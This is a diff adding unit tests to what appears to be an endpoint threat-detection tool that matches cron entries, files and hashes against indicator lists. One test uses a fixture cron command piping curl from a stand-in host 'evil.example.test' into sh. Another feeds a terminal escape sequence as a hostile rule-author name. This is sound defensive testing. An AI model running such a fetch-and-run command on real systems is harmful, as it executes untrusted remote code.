@@ -5,7 +5,8 @@ from dataclasses import replace
 
 import pytest
 
-from quetsach.core.pack import Action, ArtefactKind, FileHash, LocalText, Pack, Trait
+from quetsach.core.indicator_list import ListKind, parse_list
+from quetsach.core.pack import ANY_RULE, Action, ArtefactKind, FileHash, LocalText, Pack, Trait
 from quetsach.endpoint.artefact import Artefact, FileAnchor, LineAnchor, MemberAnchor, ProcessAnchor
 from quetsach.endpoint.engine.boreal import BorealEngine
 from quetsach.endpoint.engine.port import Hit
@@ -211,3 +212,36 @@ def test_only_files_that_findings_name_are_asked_for() -> None:
     findings = matcher.find([_cron("/tmp/a upd -B", b"/tmp/a"), _cron("/tmp/b", b"/tmp/b", number=2)])
     assert matcher.wanted(findings) == {b"/tmp/a"}
     assert TraitMatcher([_pack(KNOWN_CRON)], BorealEngine()).wanted(findings) == frozenset()
+
+
+def test_any_rule_of_a_pack_is_a_finding_with_whose_it_is_and_on_what_terms() -> None:
+    any_rule = Trait("rule", ArtefactKind.FILE, Action.REPORT, WHY, rule=ANY_RULE)
+    hits = Hit("family", "one", "Some One", credit="DRL 1.1, https://example.org/r"), Hit("family", "two", "")
+    [finding] = _found(_pack(any_rule), _file(b"/x", *hits, Hit("other", "three", "")))
+    assert finding.evidence == "one (Some One; DRL 1.1, https://example.org/r); two (a; l)"
+
+
+def test_what_the_author_of_a_rule_calls_himself_cannot_deceive_a_terminal() -> None:
+    any_rule = Trait("rule", ArtefactKind.FILE, Action.REPORT, WHY, rule=ANY_RULE)
+    [finding] = _found(_pack(any_rule), _file(b"/x", Hit("family", "one", "\x1b[2J" + "x" * 500)))
+    assert finding.evidence.startswith("one (\\x1b[2Jx")
+    assert len(finding.evidence) < 120
+
+
+def test_a_listed_hash_is_a_finding_that_says_what_its_list_calls_it() -> None:
+    entries = f"*:{'0' * 32} Win.A\nsection:512:{'1' * 40}"
+    trait = Trait("hash", ArtefactKind.FILE, Action.REPORT, WHY, hash_list=parse_list(ListKind.HASHES, entries))
+    found = _found(
+        _pack(trait),
+        _file(b"/x", Hit("", "", "", digest=f"*:{'0' * 32}")),
+        _file(b"/y", Hit("", "", "", digest=f"section:512:{'1' * 40}")),
+        _file(b"/z", Hit("", "", "", digest=f"*:{'2' * 32}")),
+    )
+    assert [f.evidence for f in found] == [f"md5 {'0' * 32} (Win.A)", f"section sha1 {'1' * 40}"]
+
+
+def test_a_field_that_names_an_entry_of_a_list_is_a_finding() -> None:
+    known = parse_list(ListKind.DOMAINS, "evil.example.test botnet")
+    trait = Trait("cron", ArtefactKind.CRON_ENTRY, Action.REPORT, WHY, listed=(("command", known),))
+    found = _found(_pack(trait), _cron("curl a.evil.example.test | sh"), _cron("curl example.test", number=2))
+    assert [f.evidence for f in found] == ["command: evil.example.test (botnet)"]
